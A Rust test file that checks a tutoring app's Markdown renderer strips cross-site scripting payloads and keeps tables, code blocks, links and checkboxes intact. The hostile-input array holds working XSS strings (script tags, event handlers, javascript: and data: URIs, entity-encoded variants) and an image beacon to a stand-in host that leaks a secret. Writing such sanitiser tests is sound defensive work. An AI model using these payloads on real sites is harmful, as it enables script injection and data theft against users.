//! Rendering answers: the Markdown a tutor writes survives, anything that could run script
//! or leak data does not.

use lectern_tutor::render::markdown_to_html;

#[test]
fn hostile_markdown_is_defused() {
    let hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "[y](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "<a href=\"&#x6A;avascript:alert(1)\">z</a>",
        "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<p style=\"position:fixed\" onclick=\"alert(1)\">styled</p>",
        "<style>body{display:none}</style>",
        "![track](https://evil.example/leak?q=secret)",
        "<svg onload=alert(1)><circle/></svg>",
    ]
    .join("\n\n");
    let html = markdown_to_html(&hostile).to_lowercase();
    for banned in [
        "<script",
        "onerror",
        "onclick",
        "onload",
        "javascript:",
        "data:",
        "<iframe",
        "style=",
        "<style",
        "<img",
        "<svg",
        "evil.example",
    ] {
        assert!(!html.contains(banned), "{banned} survived in:\n{html}");
    }
    assert!(html.contains("styled"), "harmless text stays: {html}");
}

#[test]
fn tables_code_lists_links_and_emphasis_survive() {
    let md = "## Steps\n\n| Board | RAM |\n|---|---|\n| Orin Nano | 8 GB |\n\n```bash\nsudo nvpmodel -m 0 && echo '<ok>'\n```\n\n\
              1. **Flash** the *board* ~~twice~~\n2. See [the guide](https://docs.example.com/flash) [1]\n\n- [x] done\n- [ ] todo\n";
    let html = markdown_to_html(md);
    for kept in [
        "<h2>Steps</h2>",
        "<table>",
        "<td>Orin Nano</td>",
        "<pre><code class=\"language-bash\">sudo nvpmodel -m 0 &amp;&amp; echo '&lt;ok&gt;'\n</code></pre>",
        "<ol>",
        "<strong>Flash</strong>",
        "<em>board</em>",
        "<del>twice</del>",
        "<a href=\"https://docs.example.com/flash\" rel=\"noopener noreferrer nofollow\">the guide</a>",
        "[1]",
    ] {
        assert!(html.contains(kept), "{kept} missing from:\n{html}");
    }
    let boxes: Vec<&str> = html
        .match_indices("<input")
        .map(|(i, _)| &html[i..i + html[i..].find('>').expect("closed")])
        .collect();
    assert_eq!(boxes.len(), 2, "{html}");
    assert!(
        boxes.iter().all(|b| b.contains("type=\"checkbox\"") && b.contains("disabled")),
        "{boxes:?}"
    );
    assert!(boxes[0].contains("checked") && !boxes[1].contains("checked"), "{boxes:?}");
}

#[test]
fn a_language_class_must_look_like_one() {
    let html =
        markdown_to_html("```rust\nfn main() {}\n```\n\n<code class=\"evil overlay\">x</code>");
    assert!(html.contains("class=\"language-rust\""));
    assert!(!html.contains("overlay"), "{html}");
}
